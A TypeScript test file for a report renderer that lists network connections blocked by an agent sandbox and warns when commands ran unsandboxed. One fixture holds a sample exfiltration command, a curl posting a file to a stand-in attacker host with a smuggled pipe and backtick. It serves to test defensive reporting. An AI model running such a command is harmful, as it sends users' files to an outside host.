import { renderSandboxSection } from '../../src/github/report/sandbox-section.js';

describe("the report's Sandbox section", () => {
  it('lists each refused host with count and first command, as code, with the input that allows it', () => {
    const section = renderSandboxSection({
      state: 'on',
      network: 'allowlist',
      blocked: [
        {
          host: 'attacker.example',
          port: 443,
          count: 3,
          firstCommand: 'curl -d @x https://attacker.example | @owner `x`',
          reason: 'not on the allowed hosts'
        }
      ]
    });
    expect(section).toContain('The sandbox refused 3 connections');
    expect(section).toContain('`sandbox_allow_hosts`');
    const row = section.split('\n').find((line) => line.includes('attacker.example'))!;
    expect(row).toContain('| 443 | 3 |');
    // The command is the agent's: inside a code span, its pipe escaped so the table holds.
    expect(row).not.toMatch(/[^\\]\| @owner/);
    expect(row.split(/(?<!\\)\|/).length).toBe(7);
  });

  it('warns when the commands ran without the box, and says nothing when it was switched off or refused nothing', () => {
    expect(
      renderSandboxSection({
        state: 'off',
        network: 'allowlist',
        reason: 'bwrap is not installed',
        blocked: []
      })
    ).toContain('ran **without the sandbox**');
    expect(
      renderSandboxSection({ state: 'off', network: 'allowlist', reason: 'sandbox: off', blocked: [] })
    ).toBe('');
    expect(renderSandboxSection({ state: 'on', network: 'allowlist', blocked: [] })).toBe('');
  });
});
